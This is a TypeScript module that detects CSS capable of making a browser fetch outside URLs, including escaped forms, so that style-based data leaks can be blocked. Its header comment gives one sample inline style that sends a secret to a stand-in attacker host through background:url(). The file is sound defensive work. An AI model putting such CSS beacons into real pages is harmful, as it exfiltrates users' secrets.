/**
 * The URLs style text has a browser fetch as the page loads: every `url(…)` (a background, a list or border
 * image, `content`, a cursor, a font, a mask, an `@import url(…)`), an `@import "…"`, and the strings an
 * `image-set(…)` lists. Read on the text as applied (style-as-applied.ts): `u\72l(`, `u&#114;l(` are `url(`.
 * Before 2026-12-06 none was read, and `<div style="background:url(https://evil.example/?d=…)">` sent a
 * secret as surely as an <img> (outside-images.ts).
 */
import { asApplied } from './style-as-applied.js';

/**
 * CSS's tokens that matter here, each with one way to match (no nested quantifiers, so a failed one is given
 * up at once): 1–3 a url()'s value (quoted or not), 4–5 an @import's string, 6 an image-set's name, 7–8 any
 * other string (skipped whole, so a quote in it opens nothing), 9 "(", 10 ")".
 */
const TOKEN = /url\(\s*(?:"([^"]*)"|'([^']*)'|([^\s"'()]*))\s*\)?|@import\s*(?:"([^"]*)"|'([^']*)')|((?:-webkit-)?image-set)\(|"([^"]*)"|'([^']*)'|(\()|(\))/gi;

/** Only style text with one of these fetches anything. */
const MAY_FETCH = /url\(|@import|image-set\(/i;

/** Whether `css` (a style attribute's value, a <style>'s text) has a browser fetch a URL for which `outside` holds. */
export function cssFetches(css: string, outside: (url: string) => boolean): boolean {
  const text = asApplied(css);
  if (!MAY_FETCH.test(text)) return false;
  let inSet = 0; // depth of parentheses inside an image-set(), whose bare strings are URLs
  for (const m of text.matchAll(TOKEN)) {
    if (m[6] !== undefined) inSet++;
    else if (m[9] !== undefined) inSet += inSet > 0 ? 1 : 0;
    else if (m[10] !== undefined) inSet -= inSet > 0 ? 1 : 0;
    else if (m[7] !== undefined || m[8] !== undefined) {
      if (inSet > 0 && outside(m[7] ?? m[8]!)) return true;
    } else if (outside(m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5] ?? '')) return true;
  }
  return false;
}
